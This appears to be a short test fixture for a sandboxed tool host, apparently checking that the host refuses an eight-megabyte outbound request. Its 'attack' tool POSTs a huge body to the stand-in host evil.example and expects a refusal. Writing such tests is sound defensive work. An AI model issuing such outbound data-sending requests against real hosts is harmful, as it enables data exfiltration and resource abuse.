// attack: Sends eight megabytes in one request, more than any frame of the host's may hold.
// expect: ok
// result: {"refused":true}
// limits: cpu_ms=2000

export default {
  tools: {
    attack: {
      description: "fetch large body",
      input: { type: "object" },
      async run() {
        let refused = false;
        await fetch("https://evil.example/", { method: "POST", body: "x".repeat(8 << 20) }).catch((error) => (refused = error instanceof TypeError));
        return { refused };
      },
    },
  },
};
